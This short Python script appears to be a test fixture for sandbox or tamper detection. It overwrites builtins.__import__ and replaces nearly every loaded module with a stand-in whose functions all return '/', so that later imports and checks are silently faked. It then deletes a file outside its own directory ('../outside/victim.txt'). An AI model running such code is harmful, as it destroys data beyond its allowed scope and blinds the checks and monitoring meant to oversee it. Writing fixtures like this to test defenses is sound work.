# What something imports later is an impostor.
# damage: deleted
import builtins
import os
import sys
import types

unlink = os.unlink


class Agreeable(types.ModuleType):
    def __getattr__(self, name):
        return lambda *arguments, **options: "/"


builtins.__import__ = lambda name, *rest, **options: Agreeable(name)
for name in list(sys.modules):
    if name not in ("sys", "builtins", "__main__"):
        sys.modules[name] = Agreeable(name)
unlink("../outside/victim.txt")
